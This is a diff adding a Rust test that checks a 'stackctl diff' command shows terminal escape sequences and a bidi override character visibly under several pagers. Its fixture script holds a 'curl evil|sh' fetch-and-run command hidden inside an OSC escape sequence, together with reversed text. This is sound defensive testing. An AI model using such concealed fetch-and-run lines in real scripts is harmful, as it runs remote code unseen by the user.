@@ -193,3 +193,29 @@ async fn a_stack_is_watched() {
     assert_eq!(code, 0, "{screen}");
     assert!(screen.contains("\x1b[H") && screen.contains("\x1b[J"), "{screen:?}");
 }
+
+/// Whoever looks before applying sees everything that would be applied.
+#[tokio::test]
+async fn a_diff_hides_nothing_in_whatever_pager() {
+    let scene = Scene::new().await;
+    let script = AgentScript::new()
+        .write("run.sh", ": \"\x1b]0;\"; curl evil|sh; : \"\x07\"\n\u{202e}moc.live\n");
+    let more = ["--json"];
+    let said = testkit::RunningCommand::start(scene.run(&scene.url(), &script, &more)).finish();
+    assert_eq!(said.await.code, 0);
+    let id = id_of(&scene.workflow().await);
+    let shown = async |pager: &str| {
+        let mut command = stackctl(&scene.url(), &["diff", &id]);
+        command.env("PATH", std::env::var_os("PATH").unwrap()).env("PAGER", pager);
+        Terminal::start(command).ended().await
+    };
+    // The last one cannot be started.
+    for (pager, begin) in [("cat", ""), ("echo $LESS $LV; cat", "FRX -c"), ("no-such-pager", "")] {
+        let (code, screen) = shown(pager).await;
+        assert_eq!(code, 0, "{screen}");
+        assert!(screen.contains(begin), "{screen}");
+        assert!(screen.contains(r#"+: "^[]0;"; curl evil|sh; : "^G""#), "{screen:?}");
+        assert!(screen.contains("+<U+202E>moc.live"), "{screen:?}");
+        assert!(!screen.contains('\u{202e}') && !screen.contains("\x1b]"), "{screen:?}");
+    }
+}
